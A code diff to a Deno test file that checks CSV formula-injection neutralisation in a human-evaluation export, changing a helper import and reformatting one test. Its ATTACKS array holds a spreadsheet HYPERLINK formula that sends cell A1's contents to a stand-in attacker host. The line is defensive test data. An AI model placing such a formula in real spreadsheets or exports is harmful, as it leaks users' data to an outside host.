@@ -5,7 +5,7 @@ import { parseCsvRows } from "../io/csv.ts";
 import { FORMULA_TRIGGERS, neutralizeCell } from "./neutralize_cell.ts";
 import { prepareHumanEval } from "./prepare_human_eval.ts";
 import { HUMAN_EVAL_FILES, writeHumanEval } from "./write_human_eval.ts";
-import { fakeRun } from "./_test_runs.ts";
+import { fakeAnsweredRun } from "../testing/fake_run.ts";
 
 const ATTACKS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Толығырақ")',
@@ -36,7 +36,10 @@ Deno.test("neutralizeCell() prefixes every formula trigger and leaves ordinary t
 });
 
 Deno.test("injection: formula-like answers are neutralised in the CSV and are plain text in the XLSX", async () => {
-  const runs = [fakeRun("a", ATTACKS), fakeRun("b", ATTACKS.map((x) => `${x} (b)`))];
+  const runs = [
+    fakeAnsweredRun("a", ATTACKS),
+    fakeAnsweredRun("b", ATTACKS.map((x) => `${x} (b)`)),
+  ];
   const p = prepareHumanEval(runs, { n: ATTACKS.length, seed: 1 });
   const dir = await Deno.makeTempDir();
   await writeHumanEval(p, dir);
